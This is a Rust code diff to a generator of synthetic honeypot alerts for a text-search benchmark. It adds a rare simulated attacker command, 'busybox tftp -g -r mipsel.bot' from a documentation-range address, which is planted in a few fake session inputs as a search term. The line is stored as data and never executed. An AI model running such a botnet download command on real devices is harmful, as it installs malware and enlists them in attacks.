@@ -521,6 +521,14 @@ const COMMANDS: &[&str] = &[
     "free -m | grep Mem",
 ];
 
+/// A command only sessions from sources whose address ends in [`RARE_OCTET`] type (about
+/// one alert in 7,000, without drawing from the generator): the selective term of the
+/// text-search benchmark.
+pub const RARE_COMMAND: &str = "busybox tftp -g -r mipsel.bot 198.51.100.23";
+/// A text only [`RARE_COMMAND`] contains.
+pub const RARE_TERM: &str = "mipsel.bot";
+const RARE_OCTET: u8 = 200;
+
 /// A heavy-tailed public or private source address.
 pub fn source_address(rng: &mut Rng) -> Ipv4Addr {
     if rng.chance(3) {
@@ -593,9 +601,12 @@ pub fn write_alert(out: &mut String, rng: &mut Rng, sensor: u64, create_time: &s
             meaning(out, "password", rng.zipf_pick(PASSWORDS));
             if login == "Success" {
                 let n = 1 + rng.below(3) as usize;
-                let commands: Vec<String> = (0..n)
+                let mut commands: Vec<String> = (0..n)
                     .map(|_| format!("'{}'", rng.zipf_pick(COMMANDS)))
                     .collect();
+                if source.octets()[3] == RARE_OCTET {
+                    commands.push(format!("'{RARE_COMMAND}'"));
+                }
                 meaning(out, "input", &format!("[{}]", commands.join(", ")));
             }
         }
